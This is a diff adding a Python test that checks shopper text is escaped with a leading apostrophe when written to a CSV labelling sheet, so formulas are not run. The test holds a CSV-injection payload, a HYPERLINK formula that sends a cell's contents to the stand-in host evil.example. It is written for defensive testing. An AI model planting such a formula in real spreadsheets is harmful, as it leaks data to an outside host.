@@ -160,3 +160,22 @@ def test_training_on_unlabelled_logs_says_how_to_label_them(tmp_path: Path) -> N
     split_shop_logs(shop)
     with pytest.raises(DataError, match="data label-sheet"):
         train_intent_model(shop, HashingEmbedder(64), tmp_path / "artifacts", embedder_reference="hashing-64")
+
+
+def test_a_formula_in_a_shoppers_text_is_never_run_by_the_spreadsheet(tmp_path: Path) -> None:
+    embedder, head = head_and_embedder()
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    shop = write_shop(tmp_path / "shop", [attack, "-1 refund please", "hello"])
+    rows = labelling_sheet(shop, embedder, head)
+    write_sheet(rows, tmp_path / "sheet.csv")
+    with (tmp_path / "sheet.csv").open(encoding="utf-8-sig", newline="") as handle:
+        written = {row["conversation_id"]: row for row in csv.DictReader(handle)}
+    assert written["c0"]["text"] == "'" + attack and written["c1"]["text"] == "'-1 refund please"
+    assert written["c2"]["text"] == "hello"
+    for row in written.values():
+        row["intent"] = "greeting"
+    write_sheet(
+        list(written.values()), tmp_path / "filled.csv"
+    )  # written back by the same code: no second quote
+    report = apply_labels(shop, tmp_path / "filled.csv")
+    assert report.applied == 3 and not report.rejected  # the apostrophe is not part of the turn
